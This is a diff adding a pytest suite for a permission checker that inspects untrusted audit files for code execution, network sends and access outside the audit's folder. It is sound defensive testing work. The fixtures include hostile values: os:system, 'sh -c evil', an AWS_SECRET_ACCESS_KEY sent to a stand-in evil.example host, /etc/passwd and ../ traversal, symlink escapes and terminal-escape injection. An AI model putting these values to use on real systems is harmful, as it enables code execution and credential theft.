@@ -1,0 +1,235 @@
+"""Audit files from strangers: nothing is run, sent or read from elsewhere that nobody allowed."""
+
+from __future__ import annotations
+
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+from isonomia.audits.audit_file.permissions import check_allowed, needs_of, remember, with_remembered
+from isonomia.audits.audit_file.planner import plan_audit
+from isonomia.audits.audit_file.reader import AuditFile, read_audit_file
+from isonomia.audits.protocol import Permissions
+from isonomia.errors import NotAllowedError, SpecError
+
+PEOPLE = '[population]\nsample = "people.csv"\n'
+PROPERTY = "[[property]]\ncheck = \"P[sex == 'F'] >= 0.1\"\n"
+BOTH = ("records", "cache")
+
+
+@pytest.fixture
+def folder(tmp_path, monkeypatch):
+    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
+    here = tmp_path / "here"
+    here.mkdir()
+    (here / "people.csv").write_text("sex,age\nF,1\nM,2\n")
+    (tmp_path / "secret.csv").write_text("sex,age\nF,1\n")
+    monkeypatch.chdir(here)
+    return here
+
+
+def _file(folder: Path, text: str) -> AuditFile:
+    (folder / "audit.toml").write_text(text)
+    return read_audit_file(folder / "audit.toml")
+
+
+def _wants(folder: Path, text: str) -> list[tuple[str, int, str]]:
+    return [(need.permission, need.line, str(need)) for need in needs_of(_file(folder, text), writes=BOTH)]
+
+
+@pytest.mark.parametrize(
+    ("text", "permission", "line", "told"),
+    [
+        ('[model]\nload = "os:system"\n' + PEOPLE, "code", 2, 'load = "os:system" runs code: the Python module os'),
+        ('[population]\n\ngenerator = "m:f"\n', "code", 3, 'generator = "m:f" runs code'),
+        ('[populations.a]\ndomain = "m:d"\n', "code", 2, 'domain = "m:d" runs code'),
+        ('[model]\nload = "HTTPS://e.org:8443/x"\n' + PEOPLE, "code", 2, "sends the rows to e.org:8443"),
+        ('[model]\nload = "command.toml"\n' + PEOPLE, "code", 2, "runs sh -c evil"),
+        ('[model]\nload = "score.sh"\n' + PEOPLE, "code", 2, "runs the program"),
+        ('[model]\nload = "broken.toml"\n' + PEOPLE, "code", 2, "runs a program or a service"),
+        ('[population]\nsample = "../secret.csv"\n', "outside", 2, "reads outside of its folder"),
+        ('[population]\nsample = "../*.csv"\n', "outside", 2, "reads outside of its folder"),
+        ('[population]\nsample = "*/../../secret.csv"\n', "outside", 2, "reads outside of its folder"),
+        ('[population]\nsample = "link.csv"\n', "outside", 2, "reads outside of its folder"),
+        ('[population]\nsample = "folder"\n', "outside", 2, "reads outside of its folder"),
+        ('[population]\nsample = "folder/*.csv"\n', "outside", 2, "reads outside of its folder"),
+        ('[population]\nprogram = "/etc/passwd"\n', "outside", 2, "reads outside of its folder: /etc/passwd"),
+        ('records = "../.."\n' + PEOPLE, "outside", 1, "writes outside of its folder"),
+        ('cache = "../answers.sqlite"\n' + PEOPLE, "outside", 1, "writes outside of its folder"),
+        ('[interventions]\nx = "../x.toml"\n' + PEOPLE, "outside", 2, 'x = "../x.toml" reads outside'),
+        (PEOPLE + '[[property]]\nnomos = "/etc/x.nom"\n', "outside", 4, 'nomos = "/etc/x.nom" reads outside'),
+    ],
+)
+def test_what_a_file_wants_is_said_with_its_line(folder, text, permission, line, told):
+    (folder / "command.toml").write_text('[model]\ncommand = ["sh", "-c", "evil"]\n')
+    (folder / "broken.toml").write_text("[model\n")
+    (folder / "score.sh").write_text("#!/bin/sh\n")
+    (folder / "score.sh").chmod(0o755)
+    (folder / "link.csv").symlink_to(folder.parent / "secret.csv")
+    (folder / "folder").mkdir()
+    (folder / "folder" / "a.csv").symlink_to(folder.parent / "secret.csv")
+    (found,) = _wants(folder, text + PROPERTY)
+    assert found[:2] == (permission, line)
+    assert told in found[2]
+    with pytest.raises(NotAllowedError) as caught:
+        check_allowed(read_audit_file("audit.toml"), Permissions(), "say {flags}", writes=BOTH)
+    assert caught.value.wants == (found[2],)
+    assert f"say --allow-{permission}" in str(caught.value)
+    allowed = Permissions(allow_code=permission == "code", allow_outside=permission == "outside")
+    check_allowed(read_audit_file("audit.toml"), allowed, "", writes=BOTH)
+
+
+def test_a_token_is_named_with_the_host_that_would_get_it(folder):
+    options = '[model.options]\ntoken_env = "AWS_SECRET_ACCESS_KEY"\ntoken_header = "X-Key"\n'
+    found = _wants(folder, f'[model]\nload = "http://evil.example:81/x"\n{options}{PEOPLE}{PROPERTY}')
+    told = "sends the environment variable of that name to evil.example:81, in the header X-Key"
+    assert ("code", 4, f'line 4: token_env = "AWS_SECRET_ACCESS_KEY" {told}') in found
+    (folder / "s.toml").write_text('[model]\nurl = "https://evil.example/"\ntoken_env = "AWS_SECRET_ACCESS_KEY"\n')
+    found = _wants(folder, f'[model]\nload = "s.toml"\n{PEOPLE}{PROPERTY}')
+    assert any("AWS_SECRET_ACCESS_KEY" in line and "evil.example, in the header Auth" in line for _, _, line in found)
+
+
+def test_a_file_that_stays_at_home_wants_nothing(folder):
+    (folder / "m.onnx").write_bytes(b"\x08\x08\x12\x00")
+    (folder / "p.fr").write_text("")
+    text = f'records = "kept"\ncache = "kept/answers"\n[model]\nload = "m.onnx"\n{PEOPLE}'
+    assert _wants(folder, text + '[populations.p]\nprogram = "p.fr"\n' + PROPERTY) == []
+    assert _wants(folder, '[population]\nsample = "../here/people.csv"\n' + PROPERTY) == []
+
+
+def test_a_model_of_the_current_folder_is_outside_where_the_file_is_elsewhere(folder, monkeypatch):
+    (folder.parent / "m.onnx").write_bytes(b"\x08\x08\x12\x00")
+    monkeypatch.chdir(folder.parent)
+    assert [each[0] for each in _wants(folder, f'[model]\nload = "m.onnx"\n{PEOPLE}{PROPERTY}')] == ["outside"]
+
+
+def test_a_name_cannot_move_the_cursor_of_the_refusal(folder):
+    found = _wants(folder, '[population]\nsample = "../\\u001b[2J\\u202eevil\\n.csv"\n' + PROPERTY)
+    assert not {"\x1b", "\u202e", "\n"} & set(found[0][2])
+
+
+@pytest.mark.parametrize("name", ["sample = 'a\\u0000b.csv'", "sample = 'x" + "y" * 5000 + "'", "program = ''"])
+def test_names_that_no_file_has_are_no_crash(folder, name):
+    text = f"[population]\n{name}\n".replace("'", '"')
+    check_allowed(_file(folder, text + PROPERTY), Permissions(allow_outside=True), "")
+
+
+# ------------------------------------------------------------------------------------------------------- remembered
+
+
+CODE = f'[model]\nload = "scoring:model"\n{PEOPLE}{PROPERTY}'
+
+
+def _remembered(file: AuditFile) -> bool:
+    return with_remembered(file, Permissions()).allow_code
+
+
+def _scoring(folder: Path) -> None:
+    (folder / "scoring.py").write_text("import helper\nmodel = print\n")
+    (folder / "helper.py").write_text("x = 1\n")
+    (folder / "package").mkdir()
+    (folder / "package" / "__init__.py").write_text("")
+
+
+def test_what_is_remembered_is_for_the_owner_only(folder):
+    _scoring(folder)
+    file = _file(folder, CODE)
+    assert not _remembered(file)
+    place = remember(file, Permissions(allow_code=True))
+    assert place == folder.parent / "state" / "isonomia" / "allowed.json"
+    assert stat.S_IMODE(place.stat().st_mode) == 0o600
+    assert _remembered(file)
+    assert with_remembered(file, Permissions(trust_pickle=True)) == Permissions(trust_pickle=True, allow_code=True)
+
+
+@pytest.mark.parametrize("what", ["audit", "scoring", "helper", "shadow", "folder", "nomos", "import", "service"])
+def test_any_change_is_asked_about_again(folder, monkeypatch, what):
+    _scoring(folder)
+    (folder / "x.nom").write_text("import offers;\n")
+    (folder / "offers.py").write_text("")
+    (folder / "run.py").write_text("")
+    (folder / "service.toml").write_text('[model]\ncommand = ["python", "run.py"]\n')
+    text = CODE + '[[property]]\nnomos = "x.nom"\n[models.other]\nload = "service.toml"\n'
+    file = _file(folder, text)
+    remember(file, Permissions(allow_code=True))
+    assert _remembered(file)
+    match what:
+        case "audit":
+            file = _file(folder, text.replace("0.1", "0.2"))
+        case "scoring" | "helper":
+            (folder / f"{what}.py").write_text("import os\nmodel = os.system\n")
+        case "shadow":
+            (folder.parent / "scoring.py").write_text("model = 1\n")
+            monkeypatch.chdir(folder.parent)
+        case "folder":
+            other = folder.parent / "other"
+            folder.rename(other)
+            file = read_audit_file(other / "audit.toml")
+        case "nomos":
+            (folder / "x.nom").write_text("import offers; \n")
+        case "import":
+            (folder / "offers.py").write_text("import os\n")
+        case "service":
+            (folder / "run.py").write_text("import os\n")
+    assert not _remembered(file)
+
+
+def test_only_what_was_allowed_is_remembered_and_a_new_version_takes_the_place_of_the_old(folder):
+    outside = _file(folder, f'[population]\nsample = "../secret.csv"\n{PROPERTY}')
+    remember(outside, Permissions(allow_outside=True))
+    assert with_remembered(outside, Permissions()) == Permissions(allow_outside=True)
+    place = remember(_file(folder, CODE), Permissions(allow_code=True))
+    assert place.read_text().count(str(folder)) == 1
+    assert with_remembered(outside, Permissions()) == Permissions()
+
+
+@pytest.mark.parametrize("content", ["", "[]", "[" * 5000, '{"x": 1}', "\xff"])
+def test_a_damaged_memory_allows_nothing(folder, content):
+    _scoring(folder)
+    file = _file(folder, CODE)
+    place = remember(file, Permissions(allow_code=True))
+    place.write_text(content)
+    assert not _remembered(file)
+    remember(file, Permissions(allow_code=True))
+    assert _remembered(file)
+
+
+@pytest.mark.skipif(not hasattr(os, "getuid"), reason="no such rights on this system")
+def test_a_memory_that_others_can_write_allows_nothing(folder):
+    _scoring(folder)
+    file = _file(folder, CODE)
+    remember(file, Permissions(allow_code=True)).chmod(0o666)
+    assert not _remembered(file)
+
+
+# -------------------------------------------------------------------------------------------- what is never printed
+
+
+SECRET = "root:x:0:0:the secret of the house"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '[population]\nprogram = "../secret.txt"\n' + PROPERTY,
+        f'[interventions]\nx = "../secret.txt"\n{PEOPLE}{PROPERTY}',
+        PEOPLE + '[[property]]\nnomos = "../secret.nom"\n',
+        f'[model]\nload = "../secret.toml"\n{PEOPLE}{PROPERTY}',
+    ],
+)
+def test_an_error_never_prints_a_file_that_is_not_the_audits_own(folder, text):
+    for ending in ("txt", "nom"):
+        (folder.parent / f"secret.{ending}").write_text(SECRET)
+    (folder.parent / "secret.toml").write_text(f'[model]\nurl = "x"\nkey = "{SECRET}"\n')
+    with pytest.raises(SpecError) as caught:
+        plan_audit(_file(folder, text), 1, Permissions(allow_code=True))
+    assert "secret of the house" not in str(caught.value)
+    assert caught.value.place is not None  # the line of the audit file that names it
+
+
+def test_an_error_in_a_file_of_the_audit_shows_its_line(folder):
+    (folder / "own.nom").write_text("input x1;\nthis is wrong\n")
+    with pytest.raises(SpecError, match="this is wrong"):
+        plan_audit(_file(folder, PEOPLE + '[[property]]\nnomos = "own.nom"\n'), 1, Permissions())
